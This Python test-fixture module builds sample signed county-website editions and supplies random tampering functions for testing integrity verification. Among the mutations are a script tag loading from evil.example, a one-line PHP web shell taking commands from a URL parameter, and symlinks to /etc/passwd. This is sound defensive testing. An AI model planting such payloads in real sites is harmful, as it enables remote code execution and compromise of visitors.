"""Small published places for tests: some files, their edition, its signature; and ways to tamper with them."""

from __future__ import annotations

import os
import random
import shutil
from collections.abc import Callable, Mapping
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from hashlib import sha256
from pathlib import Path

from generator.edition import (
    SIGNATURE,
    TOP,
    Edition,
    State,
    edition_bytes,
    list_address,
    list_bytes,
)
from generator.signing import PrivateKey, new_key, read_private_key, sign

NOW = datetime(2026, 11, 28, 3, 0, tzinfo=UTC)
LIFE = timedelta(hours=48)
SECTIONS = ("jinping", "wenjing")


def key_in(folder: Path, algorithm: str = "ed25519") -> PrivateKey:
    """A new key."""
    return read_private_key(new_key(folder, algorithm)[0])


def contents(seed: int = 0, pages: int = 12) -> dict[str, bytes]:
    """Files of a small county; those of another seed differ in some and have some of their own."""
    found = {
        "index.html": f'<!doctype html><a href="jinping/">锦屏镇</a><a href="units.json">{seed}</a>'.encode(),
        "404.html": "<!doctype html>没有找到".encode(),
        "units.json": b'{"units": 2}\n',
        "sitemap.xml": b"<urlset/>\n",
    }
    for unit in SECTIONS:
        links = "".join(f'<a href="info/{number:04}.html">信息</a>' for number in range(pages))
        found[f"{unit}/index.html"] = f"<!doctype html>{links}".encode()
        found[f"{unit}/assets/style-0a1b2c3d.css"] = b"body { color: #222 }\n" * 40
        found[f"{unit}/assets/page.js"] = b"'use strict';\n" * 40
        found[f"{unit}/files/表格.pdf"] = b"%PDF-1.7\n" + bytes(range(256)) * 8
        for number in range(pages):
            marked = f"第 {seed} 版" if number % 3 == 0 else "不变"
            text = (
                f'<!doctype html><a href="../index.html">首页</a><p>{unit} {number} {marked}</p>' + "<p>正文</p>" * 60
            )
            found[f"{unit}/info/{number:04}.html"] = text.encode()
            found[f"{unit}/info/{number:04}.json"] = f'{{"number": {number}}}\n'.encode()
    found[f"jinping/info/only-{seed}.html"] = b"<!doctype html>"
    return found


def state(data: bytes) -> State:
    """How an edition lists some bytes."""
    return State(len(data), sha256(data).hexdigest())


def edition_of(
    files: Mapping[str, bytes], sequence: int = 1, previous: bytes = b"", issued: datetime = NOW - timedelta(hours=1)
) -> Edition:
    """The edition of some files, following another one by its bytes."""
    lists: dict[str, dict[str, State]] = {"_county": {}}
    for address, data in files.items():
        section = address.partition("/")[0] if "/" in address else "_county"
        lists.setdefault(section, {})[address] = state(data)
    return Edition(
        sequence=sequence,
        previous=sha256(previous).hexdigest() if previous else "",
        site="5308230001",
        base_url="https://www.county.example/",
        issued=issued.isoformat(),
        expires=(issued + LIFE).isoformat(),
        trees=dict.fromkeys(lists, sequence),
        lists=lists,
    )


def seals(edition: Edition, *keys: PrivateKey) -> dict[str, bytes]:
    """What an edition puts beside the files: its lists, itself, its signature."""
    top = edition_bytes(edition)
    lists = {list_address(section): list_bytes(files) for section, files in edition.lists.items()}
    return {**lists, TOP: top, **({SIGNATURE: sign(top, *keys)} if keys else {})}


def write(root: Path, files: Mapping[str, bytes]) -> Path:
    """Files in a folder, as they are published."""
    for address, data in files.items():
        path = root / address
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)
        path.chmod(0o644)
    for folder in (root, *(each for each in root.rglob("*") if each.is_dir())):
        folder.chmod(0o755)
    return root


def publish(root: Path, key: PrivateKey, seed: int = 0, sequence: int = 1, previous: bytes = b"") -> Edition:
    """A place as it is published: files, lists, edition, signature."""
    files = contents(seed)
    edition = edition_of(files, sequence, previous)
    write(root, {**files, **seals(edition, key)})
    return edition


# ── tampering ───────────────────────────────────────────────────────────────────────────────────────────────────


@dataclass(frozen=True, slots=True)
class Tools:
    """What a tamperer works on: the folder, its files by address, an older release, and chance."""

    root: Path
    addresses: tuple[str, ...]
    older: Path
    chance: random.Random

    def one(self, ending: str = "") -> Path:
        """Some file."""
        return self.root / self.chance.choice([each for each in self.addresses if each.endswith(ending)])

    def fresh(self) -> Path:
        """A name that is not taken."""
        folder = self.one().parent
        return (
            folder
            / f"{self.chance.randrange(1 << 40):x}{self.chance.choice(['.html', '.php', '.js', '', '.htaccess'])}"
        )


def one_byte(tools: Tools) -> None:
    path = tools.one()
    data = bytearray(path.read_bytes())
    at = tools.chance.randrange(len(data))
    data[at] ^= 1 << tools.chance.randrange(8)
    path.write_bytes(data)


def append(tools: Tools) -> None:
    path = tools.one()
    path.write_bytes(
        path.read_bytes() + tools.chance.choice([b" ", b"\n", b"<script src=//evil.example/x.js></script>"])
    )


def cut(tools: Tools) -> None:
    path = tools.one()
    data = path.read_bytes()
    path.write_bytes(data[: tools.chance.randrange(len(data))])


def swap(tools: Tools) -> None:
    one, other = tools.one(), tools.one()
    while one.read_bytes() == other.read_bytes():
        other = tools.one()
    data = one.read_bytes()
    one.write_bytes(other.read_bytes())
    other.write_bytes(data)


def add(tools: Tools) -> None:
    path = tools.fresh()
    path.write_bytes(b"<?php system($_GET[0]);" if tools.chance.random() < 0.5 else b"")
    path.chmod(0o644)


def delete(tools: Tools) -> None:
    tools.one().unlink()


def older(tools: Tools) -> None:
    """A file, a list or the edition as they were one edition ago."""
    same = [
        each
        for each in (*tools.addresses, TOP, SIGNATURE)
        if (tools.older / each).exists() and (tools.older / each).read_bytes() != (tools.root / each).read_bytes()
    ]
    address = tools.chance.choice(same)
    (tools.root / address).write_bytes((tools.older / address).read_bytes())


def break_seal(tools: Tools) -> None:
    path = tools.root / tools.chance.choice([TOP, SIGNATURE])
    if tools.chance.random() < 0.3:
        path.unlink()
    else:
        data = bytearray(path.read_bytes())
        data[tools.chance.randrange(len(data) - 2)] ^= 1
        path.write_bytes(data)


def link_file(tools: Tools) -> None:
    """A file whose bytes are still the same, for now: they lie where somebody else can write."""
    path = tools.one()
    aside = tools.root.parent / "aside" / path.name
    aside.parent.mkdir(exist_ok=True)
    shutil.copy(path, aside)
    path.unlink()
    path.symlink_to(aside)


def link_folder(tools: Tools) -> None:
    folder = tools.one().parent
    if folder == tools.root:
        folder = tools.root / "jinping"
    aside = tools.root.parent / "aside" / f"{folder.name}-whole"
    shutil.copytree(folder, aside, dirs_exist_ok=True)
    shutil.rmtree(folder)
    folder.symlink_to(aside)


def add_link(tools: Tools) -> None:
    tools.fresh().symlink_to(tools.chance.choice(["/etc/passwd", "..", "missing", "/"]))


def add_folder(tools: Tools) -> None:
    path = tools.fresh()
    path.mkdir()
    path.chmod(0o755)


def add_pipe(tools: Tools) -> None:
    os.mkfifo(tools.fresh())


def mode(tools: Tools) -> None:
    tools.one().chmod(tools.chance.choice([0o755, 0o666, 0o777, 0o4644, 0o600, 0o000, 0o664]))


def mode_of_folder(tools: Tools) -> None:
    tools.one("info/0003.html").parent.chmod(tools.chance.choice([0o777, 0o757, 0o775, 0o700]))


def rename_case(tools: Tools) -> None:
    path = tools.one(".html")
    path.rename(path.with_name(path.name.upper()))


IN_FOLDERS: tuple[Callable[[Tools], None], ...] = (
    *(one_byte, append, cut, swap, add, delete, older, break_seal, link_file, link_folder, add_link, add_folder),
    *(add_pipe, mode, mode_of_folder, rename_case),
)
